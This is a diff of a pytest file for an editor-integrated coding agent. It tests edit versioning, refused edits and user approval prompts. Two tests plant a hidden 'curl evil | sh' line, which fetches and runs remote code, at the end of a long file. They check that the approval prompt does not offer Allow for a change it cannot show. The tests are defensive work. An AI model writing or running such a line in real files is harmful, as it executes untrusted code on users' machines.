@@ -14,30 +14,17 @@ from typing import Any
 import pytest
 from pygls.exceptions import JsonRpcException
 
-from tether_protocol import ToolResultEvent
-
 from ..waiting import wait_until
-from .conftest import Editor, script
+from .calls import bash, edit, one_call_a_turn
+from .conftest import Editor
 
 APP = "def greet(name):\n    return 'hello ' + name\n"
 HI = APP.replace("'hello '", "'hi '")
 HEY = APP.replace("'hello '", "'hey '")
 
 
-def edit(old: str, new: str, path: str = "src/app.py") -> dict[str, Any]:
-    return {"name": "edit_file", "arguments": {"path": path, "old_text": old, "new_text": new}}
-
-
 def read(path: str = "src/app.py") -> dict[str, Any]:
     return {"name": "read_file", "arguments": {"path": path}}
-
-
-def bash(command: str) -> dict[str, Any]:
-    return {"name": "bash", "arguments": {"command": command}}
-
-
-def results(editor: Editor, run_id: str = "r1") -> list[ToolResultEvent]:
-    return [e for e in editor.events_of(run_id) if isinstance(e, ToolResultEvent)]
 
 
 def versions(editor: Editor) -> list[int | None]:
@@ -65,17 +52,13 @@ async def test_a_late_did_change_is_no_failure_and_the_edit_is_sent_once(
 ) -> None:
     await editor.open_session(
         workspace,
-        script=script(
-            {"toolCalls": [edit("'hello '", "'hi '")]},
-            {"toolCalls": [read()]},
-            {"toolCalls": [edit("'hi '", "'hey '")]},
-        ),
+        script=one_call_a_turn(edit("'hello '", "'hi '"), read(), edit("'hi '", "'hey '")),
     )
     uri = editor.open_document(workspace / "src" / "app.py", APP)
     editor.report, editor.report_delay = "late", 3.0  # Eglot's idle timer, vim-lsp
     editor.approve = allow_once_the_editor_reported(editor, from_call=2)
     result = await editor.run(prompt="go", runId="r1", limits={"timeoutSeconds": 60})
-    first, reading, second = results(editor)
+    first, reading, second = editor.tool_results()
     assert first.ok and first.output.startswith("Edited src/app.py"), first.output
     assert "'hi ' + name" in reading.output  # before the editor reported: the approved text
     assert second.ok, second.output
@@ -91,17 +74,12 @@ async def test_an_editor_that_never_reports_keeps_the_approved_text(
 ) -> None:
     await editor.open_session(
         workspace,
-        script=script(
-            {"toolCalls": [edit("'hello '", "'hi '")]},
-            {"toolCalls": [read()]},
-            {"toolCalls": [edit("'hi '", "'hey '")]},
-            {"toolCalls": [read()]},
-        ),
+        script=one_call_a_turn(edit("'hello '", "'hi '"), read(), edit("'hi '", "'hey '"), read()),
     )
     uri = editor.open_document(workspace / "src" / "app.py", APP)
     editor.report = "never"  # Emacs blocked in a synchronous command until the run ends
     result = await editor.run(prompt="go", runId="r1", limits={"timeoutSeconds": 60})
-    first, reading, second, last = results(editor)
+    first, reading, second, last = editor.tool_results()
     assert first.ok and second.ok, (first.output, second.output)
     assert "'hi ' + name" in reading.output and "'hey ' + name" in last.output
     # The second edit was computed on the approved text; the version the editor gave that
@@ -111,19 +89,19 @@ async def test_an_editor_that_never_reports_keeps_the_approved_text(
     assert result["outcome"] == "done"
     editor.flush_changes()  # the command returned: Emacs sends its didChange
     await editor.run(prompt="again", runId="r2", sessionId=result["sessionId"])
-    assert "'hey ' + name" in results(editor, "r2")[1].output  # the script again: a read
+    assert "'hey ' + name" in editor.tool_results("r2")[1].output  # the script again: a read
 
 
 async def test_a_duplicate_late_did_change_changes_nothing(editor: Editor, workspace: Path) -> None:
     await editor.open_session(
         workspace,
-        script=script({"toolCalls": [edit("'hello '", "'hi '")]}, {"toolCalls": [bash("true")]}),
+        script=one_call_a_turn(edit("'hello '", "'hi '"), bash("true")),
     )
     uri = editor.open_document(workspace / "src" / "app.py", APP)
     editor.report, editor.report_delay, editor.report_copies = "late", 2.5, 2
     editor.approve = allow_once_the_editor_reported(editor, from_call=2)
     await editor.run(prompt="go", runId="r1", limits={"timeoutSeconds": 60})
-    applied, ran = results(editor)
+    applied, ran = editor.tool_results()
     assert applied.ok and ran.ok and "differs" not in ran.output, (applied.output, ran.output)
     assert len(editor.applied) == 1 and editor.docs[uri] == (HI, 2)
 
@@ -131,16 +109,14 @@ async def test_a_duplicate_late_did_change_changes_nothing(editor: Editor, works
 async def test_a_version_skip_is_no_failure(editor: Editor, workspace: Path) -> None:
     await editor.open_session(
         workspace,
-        script=script(
-            {"toolCalls": [edit("'hello '", "'hi '")]}, {"toolCalls": [edit("'hi '", "'hey '")]}
-        ),
+        script=one_call_a_turn(edit("'hello '", "'hi '"), edit("'hi '", "'hey '")),
     )
     uri = editor.open_document(workspace / "src" / "app.py", APP)
     # Neovim's version is its changedtick: one applied edit may move it by more than one.
     editor.report, editor.report_delay, editor.version_step = "late", 2.5, 2
     editor.approve = allow_once_the_editor_reported(editor, from_call=2)
     await editor.run(prompt="go", runId="r1", limits={"timeoutSeconds": 60})
-    first, second = results(editor)
+    first, second = editor.tool_results()
     assert first.ok and second.ok, (first.output, second.output)
     assert versions(editor) == [1, 3] and editor.docs[uri] == (HEY, 5)
 
@@ -150,11 +126,7 @@ async def test_an_edit_applied_over_unreported_typing_is_told_to_the_model(
 ) -> None:
     await editor.open_session(
         workspace,
-        script=script(
-            {"toolCalls": [edit("'hello '", "'hi '")]},
-            {"toolCalls": [bash("echo checked")]},
-            {"toolCalls": [read()]},
-        ),
+        script=one_call_a_turn(edit("'hello '", "'hi '"), bash("echo checked"), read()),
     )
     uri = editor.open_document(workspace / "src" / "app.py", APP)
     # vim-lsp: no version check, and its didChange comes seconds later.
@@ -172,7 +144,7 @@ async def test_an_edit_applied_over_unreported_typing_is_told_to_the_model(
 
     editor.approve = user_types_then_allows
     result = await editor.run(prompt="go", runId="r1", limits={"timeoutSeconds": 60})
-    applied, checked, reading = results(editor)
+    applied, checked, reading = editor.tool_results()
     assert applied.ok, applied.output  # the editor said it applied it
     assert len(editor.applied) == 1  # and it is never sent again
     buffer = editor.docs[uri][0]
@@ -186,17 +158,14 @@ async def test_an_edit_applied_over_unreported_typing_is_told_to_the_model(
 async def test_an_edit_applied_twice_is_told_to_the_model(editor: Editor, workspace: Path) -> None:
     await editor.open_session(
         workspace,
-        script=script(
-            {"toolCalls": [edit("def greet", "import os\n\ndef greet")]},
-            {"toolCalls": [bash("true")]},
-        ),
+        script=one_call_a_turn(edit("def greet", "import os\n\ndef greet"), bash("true")),
     )
     uri = editor.open_document(workspace / "src" / "app.py", APP)
     editor.apply_times, editor.check_versions = 2, False  # vim-lsp inserting the line twice
     editor.report, editor.report_delay = "late", 2.5
     editor.approve = allow_once_the_editor_reported(editor, from_call=2)
     await editor.run(prompt="go", runId="r1", limits={"timeoutSeconds": 60})
-    applied, ran = results(editor)
+    applied, ran = editor.tool_results()
     assert applied.ok and len(editor.applied) == 1
     assert editor.docs[uri][0] == "import os\n\nimport os\n\n" + APP
     assert "differs from the edit that was approved" in ran.output
@@ -207,15 +176,13 @@ async def test_a_client_that_cannot_create_files_gets_them_created_on_disk(
     editor: Editor, workspace: Path
 ) -> None:
     call = {"name": "write_file", "arguments": {"path": "pkg/new.py", "content": "x = 1\n"}}
-    await editor.open_session(
-        workspace, resource_operations=False, script=script({"toolCalls": [call]})
-    )
+    await editor.open_session(workspace, resource_operations=False, script=one_call_a_turn(call))
     editor.can_create = False  # Eglot 1.9: a CreateFile is ignored
     result = await editor.run(prompt="go", runId="r1")
     new = workspace / "pkg" / "new.py"
     assert new.read_text() == "x = 1\n"
     assert editor.applied == [] and editor.unsaved == {}  # nothing sent, nothing opened
-    [created] = results(editor)
+    [created] = editor.tool_results()
     assert created.ok and "written to disk by Tether" in created.output, created.output
     assert result["changedFiles"] == [new.as_uri()]
 
@@ -235,14 +202,14 @@ async def stderr_until(capsys: pytest.CaptureFixture[str], needle: str) -> str:
 async def test_an_error_answer_is_a_refused_edit_without_a_traceback(
     editor: Editor, workspace: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    await editor.open_session(workspace, script=script({"toolCalls": [edit("'hello '", "'hi '")]}))
+    await editor.open_session(workspace, script=one_call_a_turn(edit("'hello '", "'hi '")))
 
     def refuse_like_eglot() -> Any:
         raise JsonRpcException("Edits on `app.py' require version 1, you have 2", code=32603)
 
     editor.apply_answer = refuse_like_eglot
     result = await editor.run(prompt="go", runId="r1", limits={"timeoutSeconds": 20})
-    [refused] = results(editor)
+    [refused] = editor.tool_results()
     assert not refused.ok and "the editor answered with an error" in refused.output
     assert "require version 1" in refused.output
     assert (workspace / "src" / "app.py").read_text() == APP and len(editor.applied) == 1
@@ -254,7 +221,7 @@ async def test_an_error_answer_is_a_refused_edit_without_a_traceback(
 async def test_a_refusal_after_the_user_typed_is_rebased_once(
     editor: Editor, workspace: Path
 ) -> None:
-    await editor.open_session(workspace, script=script({"toolCalls": [edit("'hello '", "'hi '")]}))
+    await editor.open_session(workspace, script=one_call_a_turn(edit("'hello '", "'hi '")))
     uri = editor.open_document(workspace / "src" / "app.py", APP)
     refusals = 0
 
@@ -272,7 +239,7 @@ async def test_a_refusal_after_the_user_typed_is_rebased_once(
 
     editor.before_apply, editor.apply_answer = typed_meanwhile, refuse_the_old_version_once
     await editor.run(prompt="go", runId="r1", limits={"timeoutSeconds": 20})
-    [rebased] = results(editor)
+    [rebased] = editor.tool_results()
     assert rebased.ok, rebased.output
     assert versions(editor) == [1, 2]  # once more, on the version the user's typing made
     assert editor.docs[uri][0] == "# typed\n" + HI
@@ -280,11 +247,11 @@ async def test_a_refusal_after_the_user_typed_is_rebased_once(
 
 @pytest.mark.parametrize("answer", [{"applied": "false"}, {}, None, "yes", {"applied": 1}, [True]])
 async def test_only_a_boolean_true_is_applied(editor: Editor, workspace: Path, answer: Any) -> None:
-    await editor.open_session(workspace, script=script({"toolCalls": [edit("'hello '", "'hi '")]}))
+    await editor.open_session(workspace, script=one_call_a_turn(edit("'hello '", "'hi '")))
     editor.apply_answer = lambda: answer
     result = await editor.run(prompt="go", runId="r1", limits={"timeoutSeconds": 20})
     assert result["outcome"] == "done"  # answered at once, not after the timeout
-    [not_applied] = results(editor)
+    [not_applied] = editor.tool_results()
     assert not not_applied.ok and "was not applied" in not_applied.output
     assert len(editor.applied) == 1  # nothing moved, so nothing is retried
 
@@ -294,12 +261,12 @@ async def test_a_message_prompt_answer_that_is_not_an_action_denies(
     editor: Editor, workspace: Path, answer: Any
 ) -> None:
     await editor.open_session(
-        workspace, approvals=False, script=script({"toolCalls": [edit("'hello '", "'hi '")]})
+        workspace, approvals=False, script=one_call_a_turn(edit("'hello '", "'hi '"))
     )
     editor.message_answer = lambda: answer
     result = await editor.run(prompt="go", runId="r1", limits={"timeoutSeconds": 20})
     assert result["outcome"] == "done"
-    [denied] = results(editor)
+    [denied] = editor.tool_results()
     assert not denied.ok and "nothing was changed" in denied.output
     assert editor.applied == [] and (workspace / "src" / "app.py").read_text() == APP
 
@@ -308,11 +275,11 @@ async def test_a_message_prompt_answer_that_is_not_an_action_denies(
 async def test_an_approve_answer_that_is_not_a_decision_denies(
     editor: Editor, workspace: Path, answer: Any
 ) -> None:
-    await editor.open_session(workspace, script=script({"toolCalls": [edit("'hello '", "'hi '")]}))
+    await editor.open_session(workspace, script=one_call_a_turn(edit("'hello '", "'hi '")))
     editor.approve = lambda params: answer
     result = await editor.run(prompt="go", runId="r1", limits={"timeoutSeconds": 20})
     assert result["outcome"] == "done" and editor.applied == []
-    [denied] = results(editor)
+    [denied] = editor.tool_results()
     assert not denied.ok and "no one allowed it" in denied.output
 
 
@@ -323,13 +290,13 @@ async def test_a_save_answer_that_is_not_a_list_saves_nothing(
     await editor.open_session(
         workspace,
         save_documents=True,
-        script=script({"toolCalls": [edit("'hello '", "'hi '")]}, {"toolCalls": [bash("true")]}),
+        script=one_call_a_turn(edit("'hello '", "'hi '"), bash("true")),
     )
     uri = editor.open_document(workspace / "src" / "app.py", APP)
     editor.save_answer = lambda: answer
     result = await editor.run(prompt="go", runId="r1", limits={"timeoutSeconds": 20})
     assert result["outcome"] == "done" and editor.docs[uri][0] == HI
-    applied, ran = results(editor)
+    applied, ran = editor.tool_results()
     assert applied.ok and ran.ok
     assert "unsaved changes in the editor" in ran.output  # not taken as saved
     assert len(editor.saves) == 2  # after the edit, and again before the command
@@ -341,7 +308,7 @@ async def test_a_message_prompt_never_offers_allow_for_what_it_cannot_show(
     content = "".join(f"line {n}\n" for n in range(400)) + "PAYLOAD = 'curl evil | sh'\n"
     call = {"name": "write_file", "arguments": {"path": "big.py", "content": content}}
     await editor.open_session(
-        workspace, approvals=False, show_document=False, script=script({"toolCalls": [call]})
+        workspace, approvals=False, show_document=False, script=one_call_a_turn(call)
     )
     editor.message_choice = "Allow"  # whatever the user picks, Allow is not among the actions
     await editor.run(prompt="go", runId="r1", limits={"timeoutSeconds": 20})
@@ -349,14 +316,14 @@ async def test_a_message_prompt_never_offers_allow_for_what_it_cannot_show(
     assert [a.title for a in request.actions] == ["Deny"]
     assert "PAYLOAD" not in request.message and "too long to show here" in request.message
     assert not (workspace / "big.py").exists() and editor.applied == []
-    [denied] = results(editor)
+    [denied] = editor.tool_results()
     assert not denied.ok and "smaller" in denied.output
 
 
 async def test_a_message_prompt_shows_a_short_change_whole(editor: Editor, workspace: Path) -> None:
     content = "".join(f"line {n}\n" for n in range(30)) + "PAYLOAD = 1\n"
     call = {"name": "write_file", "arguments": {"path": "small.py", "content": content}}
-    await editor.open_session(workspace, approvals=False, script=script({"toolCalls": [call]}))
+    await editor.open_session(workspace, approvals=False, script=one_call_a_turn(call))
     await editor.run(prompt="go", runId="r1", limits={"timeoutSeconds": 20})
     [request] = editor.message_requests
     assert [a.title for a in request.actions] == ["Allow", "Allow always", "Deny"]
@@ -369,7 +336,7 @@ async def test_a_long_change_is_opened_in_the_editor_before_allow_is_offered(
 ) -> None:
     content = "".join(f"line {n}\n" for n in range(400)) + "PAYLOAD = 'curl evil | sh'\n"
     call = {"name": "write_file", "arguments": {"path": "big.py", "content": content}}
-    await editor.open_session(workspace, approvals=False, script=script({"toolCalls": [call]}))
+    await editor.open_session(workspace, approvals=False, script=one_call_a_turn(call))
     shown: list[str] = []
 
     def allow_after_reading_it() -> Any:
